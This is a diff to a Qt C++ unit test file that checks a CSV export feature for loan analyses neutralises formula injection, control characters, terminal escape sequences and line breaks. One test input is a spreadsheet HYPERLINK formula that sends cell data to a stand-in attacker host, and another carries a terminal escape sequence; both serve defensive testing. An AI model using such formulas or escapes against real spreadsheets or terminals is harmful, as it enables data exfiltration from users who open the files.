@@ -258,6 +258,13 @@ private slots:
                               << "'=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Click\")";
         QTest::newRow("equals inside") << "Harbor = Bank" << "Harbor = Bank";
         QTest::newRow("plain") << "Harbor Bank" << "Harbor Bank";
+        // Control characters reach no terminal or spreadsheet; a cell stays on its line.
+        QTest::newRow("tab") << "\t=1+1" << "' =1+1";
+        QTest::newRow("carriage return") << "\rX" << "' X";
+        QTest::newRow("NUL and escape") << QString::fromUtf8("A\0B\x1b]2;T\x07" "C", 10) << "A B ]2;T C";
+        QTest::newRow("delete") << "A\x7f" "B" << "A B";
+        QTest::newRow("line ends") << QString::fromUtf8("First\nSecond\r\nThird\u2028Fourth")
+                                   << "First Second  Third Fourth";
     }
     void csvTextsNeverRunAsFormulas()
     {
@@ -305,7 +312,7 @@ private slots:
         const CDealAnalysis deal = Analyze(record);
         const QList<QStringList> comparison = ParseCsv(AnalysisExport::ComparisonCsv(record, deal));
         QCOMPARE(comparison.size(), 2 + int(LoanMeasures().size() + PropertyMeasures().size()));
-        QCOMPARE(comparison.at(1).at(1), record.m_strLender[0]);
+        QCOMPARE(comparison.at(1).at(1), QStringLiteral("First, \"Best\" Bank Branch 2"));
         for (const QStringList &line : comparison)
             QCOMPARE(line.size(), 1 + MAX_LOANS);
         const auto row = [&](const char *label) {
